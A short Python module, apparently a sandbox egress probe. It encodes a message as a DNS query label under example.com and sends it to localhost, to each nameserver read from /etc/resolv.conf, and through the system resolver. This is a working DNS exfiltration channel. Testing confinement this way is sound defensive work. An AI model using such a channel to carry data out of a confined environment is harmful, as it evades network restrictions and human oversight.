"""Carries a message out in the name of a DNS query, by hand and by the system's resolver."""

import socket


def query(text):
    label = text.encode()[:60]
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label + b"\7example\3com\0\0\1\0\1"


def sent(host, port, text):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        return f"{out.sendto(query(text), (host, port))} bytes"


def servers():
    with open("/etc/resolv.conf") as file:
        return [line.split()[1] for line in file if line.startswith("nameserver") and "." in line]


def attempts(given):
    yield "by hand", lambda: sent("127.0.0.1", given["dns"], given["say"])
    if given["confined"]:
        yield "the machine's servers", lambda: [sent(host, 53, given["say"]) for host in servers()] or 1 / 0
        yield "resolver", lambda: socket.getaddrinfo(f"{given['say'][:50]}.example.com", 80)
